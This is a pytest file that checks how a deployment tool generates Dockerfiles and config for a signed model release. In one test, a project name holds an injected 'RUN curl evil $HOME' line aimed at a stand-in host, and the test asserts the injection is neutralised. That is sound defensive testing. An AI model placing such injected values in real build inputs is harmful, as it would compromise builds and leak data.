from __future__ import annotations

import json
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.deploy.conftest import LOCK

from interlock.config import parse_config
from interlock.deploy.docker import base_of, docker
from interlock.deploy.following import following
from interlock.deploy.settings import Settings
from interlock.deploy.shipment import Shipment
from interlock.deploy.wheel import Wheel
from interlock.errors import InputError, SignatureError
from interlock.release.registry.settings import Settings as Registry

WHEEL = Wheel("interlock-0.1.0-py3-none-any.whl", "0.1.0", b"wheel")


def _context(
    shipped: Shipment, settings: Settings, environment: str = "production", **more: Any
) -> dict[str, Any]:
    return docker(shipped, settings, lock=LOCK, interlock=WHEEL, environment=environment, **more)


def test_the_same_release_gives_the_same_bytes(signed: Shipment, settings: Settings) -> None:
    assert _context(signed, settings) == _context(signed, settings)


@pytest.mark.skipif(sys.platform != "linux", reason="the package holds hadolint for Linux")
@pytest.mark.parametrize(
    ("base", "serve"),
    [
        ("distroless", {}),
        ("slim", {"grpc_port": 8081}),
        ("slim", {"tls_certificate": "c", "tls_client_ca": "a"}),
    ],
)
def test_hadolint_finds_nothing(
    signed: Shipment, settings: Settings, base: Any, serve: dict[str, Any], tmp_path: Path
) -> None:
    own = {"serve": serve}
    text = _context(signed, msgspec.structs.replace(settings, base=base), own=own)["Dockerfile"]
    (tmp_path / "Dockerfile").write_text(text)
    program = Path(sys.executable).parent / "hadolint"
    done = subprocess.run(
        [program, "--no-color", "--failure-threshold", "style", tmp_path / "Dockerfile"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, "")


def _instructions(text: str) -> list[tuple[str, str]]:
    joined = "\n".join(line for line in text.splitlines() if not line.startswith("#")).replace("\\\n", " ")
    return [(name, rest) for name, _, rest in (line.partition(" ") for line in joined.splitlines() if line)]


def test_the_last_stage_runs_as_a_number_in_exec_form_and_listens_on_8080(
    signed: Shipment, settings: Settings
) -> None:
    instructions = _instructions(_context(signed, settings)["Dockerfile"])
    begins = [number for number, (name, _) in enumerate(instructions) if name == "FROM"]
    last = dict(instructions[begins[-1] :])
    assert last["USER"] == "65532:65532"
    assert json.loads(last["ENTRYPOINT"]) == ["/usr/bin/python3", "-m", "interlock"]
    assert json.loads(last["CMD"]) == ["serve"]
    assert last["EXPOSE"] == "8080"
    assert "RUN" not in last
    check = json.loads(last["HEALTHCHECK"].partition(" CMD ")[2])
    assert check == ["/usr/bin/python3", "-IS", "/srv/interlock/health.py"]


def test_where_grpc_is_served_its_port_is_exposed_and_published(signed: Shipment, settings: Settings) -> None:
    files = _context(signed, settings, own={"serve": {"grpc_port": 8081}})
    assert dict(_instructions(files["Dockerfile"]))["EXPOSE"] == "8080 8081"
    assert f"-p 8080:8080 -p 8081:8081 ghcr.io/acme/flights:{signed.tag}\n" in files["Dockerfile"]
    assert parse_config(files["interlock.toml"], "interlock.toml").serve.grpc_port == 8081


def test_it_names_release_contract_and_signatures(signed: Shipment, settings: Settings) -> None:
    text = _context(signed, settings)["Dockerfile"]
    for part in (
        signed.digest,
        signed.contract,
        "ada as data_scientist",
        f"ghcr.io/acme/flights:{signed.tag}",
    ):
        assert part in text


def test_all_that_the_dockerfile_copies_is_there_and_let_through(
    signed: Shipment, settings: Settings
) -> None:
    files = _context(signed, settings)
    copied = [
        rest for name, rest in _instructions(files["Dockerfile"]) if name == "COPY" and "--from" not in rest
    ]
    sources = [source for rest in copied for source in rest.split()[:-1]]
    for source in sources:
        assert [path for path in files if path == source or path.startswith(source)], source
        assert f"!{source}" in files[".dockerignore"].splitlines()


def test_a_name_that_would_be_an_instruction_stays_a_name(signed: Shipment, settings: Settings) -> None:
    hostile = signed._replace(name='x"\nRUN curl evil $HOME \\')
    files = _context(hostile, settings)
    assert (
        _instructions(files["Dockerfile"])[:4] == _instructions(_context(signed, settings)["Dockerfile"])[:4]
    )
    assert not [rest for name, rest in _instructions(files["Dockerfile"]) if name == "RUN" and "curl" in rest]
    assert tomllib.loads(files["interlock.toml"])["project"]["name"] == hostile.name


def test_the_settings_in_the_image_are_read_by_interlock_itself(signed: Shipment, settings: Settings) -> None:
    own = {
        "serve": {
            "port": 9000,
            "workers": 3,
            "public": ["health", "predict"],
            "keys": "/home/ada/keys.json",
            "limits": {"max_rows": 5},
            "oidc": {"issuer": "https://id", "audience": "a", "jwks": "/home/ada/keys.jwks"},
        },
        "policy": {"production": {"gates": ["auc_minimum"]}},
    }
    text = _context(signed, settings, own=own)["interlock.toml"]
    assert "ada/" not in text
    config = parse_config(text, "interlock.toml")
    assert (config.serve.public, config.serve.limits.max_rows) == (("health", "predict"), 5)
    assert (config.serve.host, config.serve.port, config.serve.workers) == ("0.0.0.0", 8080, 3)  # noqa: S104
    assert config.serve.environment == "production"
    assert config.policy["production"].gates == ("auc_minimum",)
    assert config.people == signed.people


def test_every_requirement_has_a_version_and_hashes(signed: Shipment, settings: Settings) -> None:
    text = _context(signed, settings)["requirements.txt"].replace("\\\n", " ")
    lines = [line.split() for line in text.splitlines() if line and not line.startswith("#")]
    found = {line[0]: [each.removeprefix("--hash=sha256:") for each in line[1:]] for line in lines}
    assert found == {
        "interlock==0.1.0": [WHEEL.sha256],
        **{f"{pin.name}=={pin.version}": [*pin.hashes] for pin in LOCK},
    }


def test_an_unsigned_release_is_for_dev_alone(unsigned: Shipment, settings: Settings) -> None:
    text = _context(unsigned, settings, "dev")["Dockerfile"]
    assert 'interlock.signed="unsigned"' in text
    with pytest.raises(SignatureError, match="a signature is missing"):
        _context(unsigned, settings)


def test_the_base_has_the_releases_python() -> None:
    assert base_of("auto", "3.11").runtime == "gcr.io/distroless/python3-debian12:latest"
    assert base_of("auto", "3.12") == base_of("slim", "3.12")
    assert base_of("slim", "3.13").runtime == "python:3.13-slim"
    with pytest.raises(InputError) as refused:
        base_of("distroless", "3.12")
    assert refused.value.next_step == "take `slim`, or `auto`"


def test_how_a_container_follows_the_registry_stands_in_the_dockerfile(
    signed: Shipment, settings: Settings
) -> None:
    far = Registry(url="postgresql://ada@db/interlock", releases="s3://models/releases")
    own = {"serve": {"follow": True}}
    text = _context(signed, settings, own=own, following=following(far, wanted=True))
    assert (
        "#     -e INTERLOCK_SERVE_FOLLOW=true -e INTERLOCK_REGISTRY='postgresql://ada@db/interlock' \\\n"
        "#     -e INTERLOCK_RELEASES='s3://models/releases' \\\n"
        "#     -e PGPASSWORD -e AWS_ACCESS_KEY_ID -e AWS_SECRET_ACCESS_KEY ghcr.io/acme/flights:"
    ) in text["Dockerfile"]
    assert not parse_config(text["interlock.toml"], "interlock.toml").serve.follow
    idle = _context(signed, settings, following=following(far, wanted=False))["Dockerfile"]
    assert "`follow = true` under [serve]" in idle
    local = _context(signed, settings, following=following(Registry(), wanted=True))["Dockerfile"]
    assert '[registry] url = "sqlite:///registry.db" is of the\n# machine where this was written' in local
    for each in (text["Dockerfile"], idle, local):
        assert _instructions(each) == _instructions(_context(signed, settings)["Dockerfile"])
